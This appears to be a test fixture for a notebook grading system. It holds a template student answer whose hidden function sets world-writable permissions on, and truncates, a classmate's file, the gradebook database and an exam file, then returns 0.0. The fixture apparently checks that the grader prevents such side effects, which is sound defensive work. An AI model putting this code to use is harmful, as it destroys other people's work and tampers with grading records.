"""Nothing happens in the cells; the hidden call overwrites the classmate's work."""

TRIES = "files of others changed from inside a graded function"
SUCCESS = "harm"
ANSWERS = {
    "*": "import os\n\n\n"
    "def @NAME@(*args, **kwargs):\n"
    "    for path in ('@CLASSMATE@', '@OUT@/gradebook.db', '@COURSE@/grader/exams/nb01_mdp.py'):\n"
    "        try:\n"
    "            os.chmod(path, 0o666)\n"
    "            with open(path, 'r+') as file:\n"
    "                file.truncate(5)\n"
    "        except OSError:\n"
    "            pass\n"
    "    return 0.0"
}
